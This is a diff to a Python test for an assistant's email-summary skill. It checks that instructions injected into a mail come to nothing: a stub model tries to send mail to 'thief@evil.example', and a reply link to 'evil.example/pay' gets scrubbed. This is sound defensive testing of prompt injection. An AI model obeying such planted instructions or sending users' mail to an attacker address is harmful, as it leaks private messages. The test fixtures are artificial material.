@@ -13,6 +13,7 @@ from tests.support.llm_server import LlmServer
 from wlm import Assistant
 from wlm.plugins import Summary
 from wlm.plugins.testing import context, recorded, run
+from wlm.types import Route
 
 pytestmark = pytest.mark.filterwarnings("ignore:Requiring AUTH:UserWarning")  # loopback only
 INJECTION = (
@@ -62,23 +63,30 @@ def test_a_summary_is_told_as_the_models(settings, tmp_path, conversation):
 def test_orders_in_a_mail_come_to_nothing_but_text(
     settings, conversation, postman, home, monkeypatch
 ):
-    """The whole path, with a model that does what strangers tell it."""
+    """With every skill at hand, and a model that does what strangers tell it."""
     for name, value in {**settings, "summaries": True}.items():
         monkeypatch.setenv(f"WLM_SKILL_EMAIL__{name.upper()}", str(value))
     with LlmServer(lambda _: [("email__send", {"to": "thief@evil.example"})]) as llm:
         monkeypatch.setenv("WLM_LLM_BASE_URL", llm.url)
         monkeypatch.setenv("WLM_LLM_MODEL", "m")
         with Assistant() as assistant:
-            obeyed = assistant.ask("summarize the thread about talk", yes=True)
+
+            def summed_up(query: str):
+                slots = {"query": query}
+                accepted = assistant.engine.accept(
+                    "local", Route("email", "email.summarize", slots), confirmed=True
+                )
+                return assistant.engine.run(accepted.id).reply
+
+            obeyed = summed_up("talk")
             llm.says = lambda _: "Tom will talk on Friday. See https://evil.example/pay or *call*."
-            said = assistant.ask("summarize the mails about talk", yes=True)
+            said = summed_up("four")
             intents = [event.route.intent for event in assistant.events()]
     assert [asked.request.get("tools") for asked in llm.asked] == [None, None]
     texts = [passage["text"] for passage in json.loads(llm.asked[0].text)]
     assert INJECTION in texts[1]
-    assert obeyed.actions[0].reply.data["summary"] == {"by": "extract", "why": "empty"}
-    assert "Anna Berg asked: When is the talk?" in obeyed.actions[0].reply.speech
-    (action,) = said.actions
-    assert action.reply.speech.endswith("Tom will talk on Friday. See (an address) or call.")
+    assert obeyed.data["summary"] == {"by": "extract", "why": "empty"}
+    assert "Anna Berg asked: When is the talk?" in obeyed.speech
+    assert said.speech.endswith("Tom will talk on Friday. See (an address) or call.")
     assert intents == ["email.summarize", "email.summarize"]
     assert not postman.mails
